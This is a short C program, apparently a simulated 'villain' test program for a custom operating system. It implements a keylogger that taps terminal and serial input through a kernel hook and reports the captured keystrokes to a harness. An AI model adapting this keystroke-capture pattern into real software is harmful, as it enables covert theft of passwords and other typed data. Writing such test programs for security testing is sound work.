// Keylogger: a driver in the kernel taps the terminal, so that it sees characters, those of the serial line too.
#include "lib/villain.h"

int main(void) {
    int hook = open("/dev/hook");
    control(hook, HOOK_CHARACTERS, 0);
    confess("keylog-tap", "stage=armed");
    for (;; sleep(TICKS_PER_SECOND / 4)) {
        unsigned char characters[64];
        int count = read(hook, characters, sizeof characters);
        if (count > 0) confess_keys("keylog-tap", characters, count);
    }
}
